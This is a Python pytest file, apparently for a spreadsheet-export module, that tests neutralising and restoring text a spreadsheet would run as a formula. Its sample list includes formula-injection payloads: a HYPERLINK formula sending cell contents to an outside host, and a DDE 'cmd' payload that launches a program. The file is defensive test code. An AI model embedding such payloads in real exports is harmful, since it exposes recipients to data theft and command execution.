"""Text that a spreadsheet would run."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from products.files.formulas import FIRST, SEPARATOR, neutralise, neutralise_each, restore

FORMULAS = [
    '=HYPERLINK("http://example.org?x="&A1;"Drill")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠SUM(A1)",  # noqa: RUF001
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_becomes_text_and_comes_back(text: str) -> None:
    assert neutralise(text) == f"'{text}"
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["", "'", "''", "'80s style drill", "18V drill", "a=b", "10 - 20 mm", " =1"])
def test_other_text_stays_as_it_is_in_both_directions(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


@pytest.mark.parametrize("text", ["'=1+1", "''-5", "'@home"])
def test_text_with_an_apostrophe_of_its_own_keeps_it(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(st.text(alphabet=st.one_of(st.sampled_from("'" + FIRST), st.characters()), max_size=8))
def test_any_text_comes_back_unchanged_and_never_begins_a_formula(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(tuple(FIRST))


@given(st.lists(st.text(alphabet=st.sampled_from("'a " + FIRST), max_size=4)))
def test_many_texts_at_once_become_what_each_would(texts: list[str]) -> None:
    joined = "".join(SEPARATOR + text for text in texts)
    assert neutralise_each(joined) == "".join(SEPARATOR + neutralise(text) for text in texts)
